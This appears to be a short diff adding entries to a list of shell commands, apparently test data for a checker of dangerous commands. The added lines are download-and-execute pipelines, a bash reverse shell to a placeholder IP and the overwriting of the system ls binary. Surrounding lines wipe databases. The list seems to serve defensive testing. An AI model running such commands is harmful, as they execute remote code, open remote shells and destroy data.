@@ -523,6 +523,11 @@ Set-ExecutionPolicy Bypass
 cp /dev/null data.db
 python manage.py flush --no-input
 npx prisma migrate reset
+curl -fsSL http://x -o /tmp/a && sh /tmp/a
+wget https://x.y/i.sh; chmod +x i.sh && ./i.sh
+curl --output=q http://x; source q
+bash -i >& /dev/tcp/1.2.3.4/99 0>&1
+cp evil /usr/local/bin/ls
 flyway clean
 echo 'unclosed
 ls "
